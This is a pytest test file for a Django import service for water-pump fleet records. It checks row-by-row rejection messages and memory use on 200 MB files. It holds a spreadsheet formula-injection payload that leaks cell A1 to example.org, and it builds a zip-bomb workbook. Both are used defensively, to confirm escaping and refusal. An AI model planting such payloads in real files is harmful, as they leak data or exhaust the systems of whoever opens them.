"""Bad input, one kind after the other: a plain sentence for each, by line and column, and what was good is kept.

Each row of the table is tried as CSV, as a workbook, and by the page. Further kinds have their own tests: cells and
their readers in `test_readers.py`, the order of days in `test_order_of_days.py`, files that are not what their name
says in `test_wrong_files.py`, slips of the pen in tests/readings, pictures that are none in tests/visits.
"""

import csv
import io
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.urls import reverse

from fleet.intake import services, tables
from fleet.intake.forms import MatchForm
from fleet.intake.models import Upload
from fleet.registry.models import Installation, Pipe, Site
from fleet.web.refusals import Refused
from tests.intake.made import KINDS, as_csv, sound
from tests.makers.registry import a_module_type, a_pump_type, an_installation

BAD = [  # what, the cells, the column named, a piece of the sentence
    ("diameter in metres", {"inside_diameter_mm": "0.15"}, "inside_diameter_mm", "In metres it would be 150 mm"),
    ("diameter in inches", {"inside_diameter_mm": "6"}, "inside_diameter_mm", "In inches it would be 152.4 mm"),
    ("a unit typed", {"well_depth_m": "200 ft"}, "well_depth_m", "Give metres as a number, like 60; this is in feet."),
    ("power in kilowatts", {"test_power_w": "0"}, "test_power_w", "Above zero, please."),
    ("no number", {"setting_depth_m": "about 40"}, "setting_depth_m", "Give metres as a number, like 40."),
    ("a day that is none", {"measured_on": "2024-02-30"}, "measured_on", "There is no such day."),
    ("day or month first", {"measured_on": "3/4/2024"}, "measured_on", "Could be 3 April or 4 March"),
    ("a short year", {"commissioned_on": "1.3.24"}, "commissioned_on", "Write the year with four digits"),
    ("on the sea", {"latitude_deg": "0", "longitude_deg": "-20"}, "latitude_deg",
     "These coordinates lie on the sea. Look at the signs"),
    ("swapped", {"latitude_deg": "39", "longitude_deg": "-15"}, "latitude_deg",
     "Latitude and longitude seem to be swapped: the other way round they lie in Africa/Maputo."),
    ("off the globe", {"latitude_deg": "123.4"}, "latitude_deg", "Give a value from -90 to 90"),
    ("a unit twice", {"serial": "rm-1"}, "serial", "Line 2 of this file says the same one already."),
    ("a well taken", {"site_code": "NK-1", "latitude_deg": "3.1210"}, "site_code", "Unit RM-1 hangs in this well."),
    ("an unknown type", {"pump_type": "Brok 80"}, "pump_type", "Is it Brook 80?"),
    ("level below the bottom", {"static_level_m": "61"}, "static_level_m", "Below the bottom of the well (60 m)."),
    ("a pipe without a bore", {"pipe_wall_mm": "17"}, "pipe_wall_mm", "With this wall the pipe has no bore."),
    ("half a pipe", {"pipe_wall_mm": ""}, "pipe_wall_mm", "A pipe needs both its outside diameter and its wall"),
    ("half a test point", {"test_flow_l_min": ""}, "test_flow_l_min", "A test point needs head, power and flow."),
    ("no code", {"site_code": ""}, "site_code", "Needed, and nothing stands here."),
    ("a code for an address", {"site_code": "NK/2"}, "site_code", "A code has no / ? #"),
    ("neither yes nor no", {"fenced": "partly"}, "fenced", "Write yes or no."),
    ("another word", {"instrument_level": "weekly"}, "instrument_level", "Write one of: meter, daily, logger."),
    ("no letters", {"village": "Nak\x07wara"}, "village", "Holds characters that cannot be shown."),
]  # fmt: skip
NAMES = [case[0] for case in BAD]


@pytest.fixture
def catalogue(organisation):
    a_pump_type(organisation, name="Brook 80")
    a_module_type(organisation, name="Plain 150")
    return organisation


@pytest.fixture
def bring(organisation, tmp_path):
    def brought(content, table="fleet", word="good", name="file.csv", **more):
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return services.bring_in_file(table=table, path=path, organisation=organisation, word=word, **more)

    return brought


def rows_with(changes):
    return [sound(1), sound(2, **changes), sound(3)]


def hanging():
    return set(Installation.objects.values_list("unit__serial", flat=True))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("what", "changes", "column", "piece"), BAD, ids=NAMES)
def test_the_row_is_rejected_with_a_sentence_and_the_good_rows_are_kept(
    what, changes, column, piece, kind, catalogue, bring, tmp_path
):
    if kind == "xlsx" and "\x07" in "".join(changes.values()):
        pytest.skip("a workbook cannot hold such a character")
    rejects = tmp_path / "rejects.csv"
    outcome = bring(KINDS[kind](rows_with(changes)), name=f"file.{kind}", rejects=rejects)
    faults = [f for f in outcome.faults if not f.warning]
    assert [(f.line, f.column) for f in faults] == [(3, column)], faults
    assert piece in faults[0].sentence and faults[0].sentence.endswith((".", "?", "first."))
    assert hanging() == {"RM-1", "RM-3"} and (outcome.new, outcome.rejected) == (2, 1)
    [rejected] = csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8-sig")))
    assert rejected["line"] == "3" and piece in rejected["reason"]
    assert rejected["pump_type"] == changes.get("pump_type", "Brook 80")  # what was typed is there, to be mended


@pytest.mark.parametrize(("what", "changes", "column", "piece"), BAD, ids=NAMES)
def test_the_page_says_the_same_and_keeps_nothing_until_asked(
    what, changes, column, piece, catalogue, client, nadia
):
    client.force_login(nadia, backend="fleet.people.backends.PersonBackend")
    upload = sent(client, "fleet", as_csv(rows_with(changes)))
    page = client.post(reverse("intake:match", args=[upload.pk]), as_matched(upload), follow=True).content.decode()
    assert piece.replace("'", "&#x27;") in page and "line 3" in page
    assert not Site.objects.exists()
    page = client.post(reverse("intake:keep", args=[upload.pk]), {"word": "good"}, follow=True).content.decode()
    assert "2 rows are kept." in page and hanging() == {"RM-1", "RM-3"}
    assert "RM-" in client.get(reverse("intake:rejects", args=[upload.pk])).getvalue().decode() or "serial" in changes


def sent(client, table, content, name="file.csv"):
    client.post(reverse("intake:start"), {"table": table, "file": SimpleUploadedFile(name, content)})
    return Upload.objects.get()


def as_matched(upload):
    form = MatchForm(upload=upload, table=tables.find(upload.table))
    return {name: field.initial for name, field in form.fields.items() if field.initial}


def test_decimal_commas_with_thousands_dots_are_read_where_the_file_shows_them(catalogue, bring):
    rows = [sound(n, well_depth_m=f"6{n},5", meter_rollover_l="1.000.000", need_m3_day="5,25") for n in (1, 2)]
    outcome = bring(as_csv([row | {"latitude_deg": row["latitude_deg"].replace(".", ","),
                                   "longitude_deg": "35,6071", "test_flow_l_min": "12,5", "pipe_wall_mm": "3,0",
                                   "static_level_m": "22,4"} for row in rows], delimiter=";"))  # fmt: skip
    assert outcome.rejected == 0, outcome.faults
    found = Installation.objects.select_related("well__site").get(unit__serial="RM-1")
    assert (found.well.depth_m, found.meter_rollover_l, found.well.site.need_m3_day[0]) == (61.5, 1_000_000, 5.25)


def test_places_far_from_the_others_that_would_lie_among_them_swapped_are_kept_with_a_warning(catalogue, bring):
    rows = [sound(n) for n in range(1, 6)]
    rows[3] |= {"latitude_deg": "35.6071", "longitude_deg": "3.1204"}
    outcome = bring(as_csv(rows))
    [warning] = outcome.faults
    assert warning.warning and warning.line == 5
    assert warning.sentence == (
        "Far from your other sites; with latitude and longitude the other way round it would lie among them."
    )
    assert outcome.new == 5


@pytest.mark.parametrize("kind", KINDS)
def test_readings_of_unknown_serials_doubled_rows_and_times_that_cannot_be(kind, organisation, bring):
    hangs = an_installation(organisation)
    serial = hangs.unit.serial
    rows = [{"serial": s, "time": t, "meter total": m} for s, t, m in (
        (serial, "2024-06-03 14:30", "1000"), ("RM-404", "2024-06-03 14:30", "1000"),
        (serial, "2024-06-04 25:30", "1100"), (serial, "2031-06-04 10:00", "1100"), (serial, "2024-06-05 14:30", "-4"),
    )]  # fmt: skip
    outcome = bring(KINDS[kind](rows), table="meter_readings", name=f"m.{kind}")
    said = {f.line: f.sentence for f in outcome.faults}
    assert outcome.new == 1 and set(said) == {3, 4, 5, 6}
    assert "No unit with this serial is kept here." in said[3]
    assert "There is no such hour." in said[4]
    assert "the time has not come yet" in said[5]
    assert "Give a value from 0" in said[6]
    [reading] = hangs.meter_readings.all()
    assert reading.at.hour == 11  # without a zone it is the site's own time


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'


@pytest.mark.parametrize("kind", KINDS)
def test_text_that_would_be_a_formula_is_kept_as_typed_and_never_given_out_alive(kind, catalogue, bring, tmp_path):
    rejects = tmp_path / "rejects.csv"
    rows = [sound(1, caretaker_name=FORMULA), sound(2, caretaker_name=FORMULA, well_depth_m="deep")]
    assert bring(KINDS[kind](rows), name=f"f.{kind}", rejects=rejects).new == 1
    assert Site.objects.get().caretaker_name == FORMULA
    [rejected] = csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8-sig")))
    assert rejected["caretaker_name"] == "'" + FORMULA


# -- 200 MB -----------------------------------------------------------------------------------------------------------

MEGABYTE = 1024 * 1024
MOST_MEMORY = 80 * MEGABYTE


@pytest.fixture
def memory():
    """The most that Python held at once since the test began, in bytes."""
    tracemalloc.start()
    yield lambda: tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()


@pytest.fixture
def large(tmp_path):
    """A CSV of 200 MB: 5,300 pipes, each with a long remark that nobody asked for; one of them has no wall."""
    path = tmp_path / "large.csv"
    remark = "well " * 8000
    with path.open("w") as handle:
        handle.write("name,outside_mm,wall_mm,remark\n")
        for n in range(5300):
            handle.write(f"Pipe {n},32,{'none' if n == 4000 else '3.0'},{remark}\n")
    assert path.stat().st_size > 200 * MEGABYTE
    return path


def test_a_file_of_200_mb_is_taken_in_looked_through_and_kept_in_little_memory(large, nadia, memory):
    with large.open("rb") as handle:
        file = TemporaryUploadedFile("large.csv", "text/csv", large.stat().st_size, None)
        with file:
            while block := handle.read(MEGABYTE):
                file.write(block)
            file.seek(0)
            upload = services.receive(table=tables.find("pipes"), file=file, by=nadia)
    try:
        outcome = services.carry_out(upload=upload, word="look", by=nadia)
        assert (outcome.rows, outcome.new, outcome.rejected) == (5300, 5299, 1)
        assert [(f.line, f.column) for f in outcome.faults] == [(4002, "wall_mm")]
        services.carry_out(upload=upload, word="good", by=nadia)
        assert Pipe.objects.count() == 5299
        assert memory() < MOST_MEMORY
    finally:
        upload.file.delete(save=False)


def test_a_file_of_200_mb_in_one_line_is_refused_in_words_and_in_little_memory(tmp_path, organisation, memory):
    path = tmp_path / "line.csv"
    with path.open("wb") as handle:
        handle.write(b"name,outside_mm,wall_mm\n")
        for _n in range(200):
            handle.write(b"0" * MEGABYTE)
    with pytest.raises(Refused, match="Line 2 is too long to be a row of a table"):
        services.bring_in_file(table="pipes", path=path, organisation=organisation)
    assert memory() < MOST_MEMORY


def test_a_quotation_mark_left_open_in_200_mb_is_found_at_its_line(large, organisation, memory):
    with large.open("r+b") as handle:
        handle.seek(31)
        handle.write(b'"')  # before the first pipe's name
    with pytest.raises(Refused, match="From line 2 on this file cannot be read as a table"):
        services.bring_in_file(table="pipes", path=large, organisation=organisation)
    assert memory() < MOST_MEMORY


def test_a_workbook_that_unpacks_to_more_than_can_be_held_is_refused_before_it_is_unpacked(
    tmp_path, organisation, memory
):
    path = tmp_path / "bomb.xlsx"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as pack,
        pack.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet,
    ):
        for _n in range(520):
            sheet.write(b"\0" * MEGABYTE)
    assert path.stat().st_size < 10 * MEGABYTE
    with pytest.raises(Refused, match="too big once unpacked. Save the table as CSV"):
        services.bring_in_file(table="pipes", path=path, organisation=organisation)
    assert memory() < MOST_MEMORY


def test_a_file_above_the_limit_keeps_the_choice_that_was_made(client, nadia, settings):
    settings.UPLOAD_MAX_BYTES = 10
    client.force_login(nadia, backend="fleet.people.backends.PersonBackend")
    answer = client.post(reverse("intake:start"), {"table": "pipes", "file": SimpleUploadedFile("p.csv", b"x" * 11)})
    page = answer.content.decode()
    assert answer.status_code == 422 and "This file is bigger than" in page and "import_table" in page
    assert '<option value="pipes" selected>' in page
